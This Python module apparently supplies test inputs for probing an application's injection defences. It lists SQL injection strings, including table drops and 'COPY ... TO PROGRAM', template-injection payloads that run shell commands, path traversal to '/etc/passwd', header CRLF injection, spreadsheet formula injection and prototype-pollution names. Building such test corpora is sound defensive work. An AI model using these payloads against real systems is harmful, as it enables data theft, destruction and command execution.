"""Texts that do harm where a program takes data for something else.

SQL is put together as testers' tools do it: what ends the text that a value stands in, what is
then asked, and what makes the rest of the statement a comment.
"""

from itertools import product

_ENDS = ("'", '"', "')", "'))", "", "\\'")
_REST = ("-- -", "/*", "")

_BOOLEAN = (
    " OR 1=1", " AND 1=2", " OR 'a'='a", " OR 1 IS NOT NULL", " AND 1=(SELECT 1)", " OR TRUE",
    " OR id LIKE '%", " OR user_id IS NULL OR '1'='1", " OR EXISTS(SELECT 1 FROM keys)",
    " AND (SELECT COUNT(*) FROM users)>0", " OR length(name)>0", " RLIKE '.*",
)  # fmt: skip
_ERROR = (
    " AND 1=CAST((SELECT version()) AS int)", " AND 1=CAST('x' AS INTEGER)/0",
    " AND 1=(SELECT CAST(email AS int) FROM users LIMIT 1)", " AND abs(-9223372036854775808)=1",
    " AND json('{')", " OR zeroblob(1000000000)=1", " AND to_number('a','9')=1",
    " AND load_extension('x')", " AND 1=ctid", " OR randomblob(100000000) IS NULL",
)  # fmt: skip
_UNION = (
    " UNION SELECT NULL", " UNION ALL SELECT NULL,NULL,NULL",
    " UNION SELECT sql FROM sqlite_master", " UNION SELECT password_hash FROM users",
    " UNION SELECT digest,name FROM keys",
    " UNION SELECT table_name FROM information_schema.tables",
    " UNION SELECT usename FROM pg_user", " UNION SELECT sealed FROM vault", " ORDER BY 100",
    " GROUP BY 1 HAVING 1=1", " LIMIT 0 OFFSET 9", " INTERSECT SELECT 1",
)  # fmt: skip
_STACKED = (
    "; DROP TABLE keys", "; DELETE FROM users", "; UPDATE users SET role='admin'",
    "; INSERT INTO alerts VALUES (1)", "; VACUUM", "; PRAGMA writable_schema=1",
    "; ATTACH DATABASE '/tmp/x.db' AS x", "; CREATE TABLE pwned (a int)", "; COMMIT", "; ROLLBACK",
    "; COPY users TO PROGRAM 'id'", "; ALTER TABLE users ADD COLUMN pwned int",
)  # fmt: skip
_TIMED = (
    "; SELECT pg_sleep(10)", " OR (SELECT 1 FROM pg_sleep(10)) IS NOT NULL",
    " AND 1=(SELECT 1 FROM pg_sleep(10))", "||(SELECT pg_sleep(10))||", " OR pg_sleep(10) IS NULL",
    " AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(500000000/2))))",
    " OR (WITH RECURSIVE r(i) AS (SELECT 1 UNION ALL SELECT i+1 FROM r) SELECT MAX(i) FROM r)>0",
    " AND (SELECT COUNT(*) FROM generate_series(1,500000000))>0", " AND SLEEP(10)",
    "; WAITFOR DELAY '0:0:10'",
)  # fmt: skip
_ALONE = (
    "'", '"', "`", "\\", "''", "';", "--", "#", "/*", "*/", "%", "_", "%%", "%s", "%(name)s", ":1",
    ":name", "$1", "?", "{}", "{0}", "@@version", "x'41'", "U&'\\0061'", "E'\\x61'", "$$x$$",
    "$a$ OR 1=1 $a$", "1;1", "1e309", "-1", "0x41", "NULL", "null", "true", "admin'--",
    "ad'||'min", "%27%20OR%201=1", "%2527", "\u02bc OR 1=1", "\uff07 OR 1=1", "\u02bc", "a\u0000b",
    "\u0000", "\u202e'", "\ufeff'", "a' COLLATE NOCASE AND '1'='1", "' GLOB '*", "' LIKE '%",
    "' ESCAPE '", "' MATCH 'x", "' BETWEEN 'a' AND 'z", "' IN (SELECT id FROM keys) AND ''='",
    "[a]", "(", ")", "((((", "' '' ''' ''''", "\r\n'", "\t'", "😀'", "é'", "A" * 5000 + "'",
)  # fmt: skip

_ASKED = (*_BOOLEAN, *_ERROR, *_UNION, *_STACKED, *_TIMED)

SQL = tuple(
    dict.fromkeys(
        (
            *_ALONE,
            *(
                end + asked + _REST[number % len(_REST)]
                for number, (end, asked) in enumerate(product(_ENDS, _ASKED))
            ),
        )
    )
)
"""Boolean, by errors, by unions, stacked and by time, for SQLite and PostgreSQL."""

EVERYWHERE = (
    "a\u0000b",
    "'",
    "x\r\nX-Injected: 1",
    "' OR (SELECT 1 FROM pg_sleep(10)) IS NULL-- -",
)
"""What each place is given, whatever else it is."""

PRODUCT = "9801547"
"""1337 times 7331: what a template that was evaluated says."""

SSTI = (
    "{{7*7}}", "{{1337*7331}}", "{{ 1337 * 7331 }}", "{{-1337*7331-}}", "{%print(1337*7331)%}",
    "{% print 1337*7331 %}", "${1337*7331}", "#{1337*7331}", "<%= 1337*7331 %>", "${{1337*7331}}",
    "@(1337*7331)", "{1337*7331}", "{{=1337*7331}}", "[[1337*7331]]", "[[${1337*7331}]]",
    "*{1337*7331}", "~{1337*7331}", "{{'7'*7}}", "{{\"7\"*7}}", "{{config}}", "{{config.items()}}",
    "{{self}}", "{{self.__init__.__globals__}}", "{{self._TemplateReference__context}}",
    "{{request}}", "{{request.application.__globals__}}", "{{''.__class__.__mro__}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}", "{{[].__class__.__base__}}",
    "{{().__class__.__bases__[0].__subclasses__()}}", "{{cycler.__init__.__globals__.os}}",
    "{{cycler.__init__.__globals__.os.popen('id').read()}}", "{{joiner.__init__.__globals__}}",
    "{{namespace.__init__.__globals__}}", "{{lipsum.__globals__['os'].popen('id').read()}}",
    "{{lipsum.__globals__}}", "{{get_flashed_messages.__globals__}}", "{{url_for.__globals__}}",
    "{{range(1000000000)}}", "{{range.__class__}}", "{{dict.__base__}}", "{{context}}",
    "{{context.__class__}}", "{{prompt.__class__}}", "{{prompt|attr('__class__')}}",
    "{{''|attr('\\x5f\\x5fclass\\x5f\\x5f')}}", "{{''['__cla'+'ss__']}}", "{{steps}}",
    "{{loop}}", "{{messages}}", "{% for x in range(10) %}x{% endfor %}", "{% if 1 %}yes{% endif %}",
    "{% include '/etc/passwd' %}", "{% import 'os' as os %}", "{% extends 'x' %}",
    "{% set x = 1337*7331 %}{{x}}", "{% macro m() %}x{% endmacro %}{{m()}}",
    "{% raw %}{{1337*7331}}{% endraw %}", "{% endraw %}{{1337*7331}}", "{# comment #}", "{{", "}}",
    "{%", "%}", "{#", "{{}}", "{{{{1337*7331}}}}", "{%%}", "{% endif %}", "{% else %}",
    "# for x in y", "{{ x.y.z }}", "{{undefined_name}}", "%{1337*7331}", "{php}echo 1;{/php}",
    "<#assign x=1337*7331>${x}", "$class.inspect('java.lang.Runtime')", "{{constructor}}",
    "{{constructor.constructor('return 1337*7331')()}}", "__import__('os').system('id')",
    "{0.__class__}", "{prompt}", "%(prompt)s", "$prompt", "{{ prompt }}", "{{ prompt | json }}",
)  # fmt: skip

PATHS = (
    "..", ".", "../", "../..", "../keys", "../../health", "..%2f", "%2e%2e%2f", "%2e%2e/", "..\\",
    "..%5c", "..;/", "....//", "/etc/passwd", "//evil.example/", "%00", "x%00.json", "x/../y",
    "x%2f..%2fy", "%252e%252e%252f", "..%c0%af", "..%ef%bc%8f", "?x=1", "#x", "x?y#z", "%",
    "%zz", "a b", "\\\\host\\share", "file:///etc/passwd", "http://127.0.0.1/", "~root",
    "..%0d%0ax", "é", "\u202e", ";x=1", "*", "x" * 300,
)  # fmt: skip

LINES = (
    "x\r\nX-Injected: 1", "x\nX-Injected: 1", "x\rX-Injected: 1", "\r\n\r\n<html>",
    "x%0d%0aX-Injected: 1", "x\u560d\u560aX-Injected: 1", "x\u2028X-Injected: 1",
    "x\x85X-Injected: 1", "x\x0bX-Injected: 1", "x\x00X-Injected: 1", "\u010d\u010aX-Injected: 1",
)  # fmt: skip
"""For headers."""

FORMULAS = (
    "=1+1", "=cmd|' /C calc'!A0", "+1", "-1", "@SUM(1)", "=HYPERLINK(\"http://x\")",
    "=\"a\"&\"b\"", "+cmd|'x'!A1", "-2+3", "=IMPORTXML(1)", "@x", "\"=1\"", ";=1", ",=1",
)  # fmt: skip

GLOBS = (
    "?", "[a-z]*", "[^x]", "[", "[[]*", "*[", "\\*", "h?llo", "**", "[!a]*", "{a,b}", "[]", "[a-",
    "llm:cache:*", "*:*", "turnout:*", "a" * 300 + "*",
)  # fmt: skip

MEMBERS = (
    "__proto__", "constructor", "prototype", "__class__", "__init__", "__dict__", "toString",
    "hasOwnProperty", "$where", "$ne", "__globals__", "", " ", "a.b", "a[0]", "model_config",
)  # fmt: skip
"""Names of members that some programs take for more than names."""
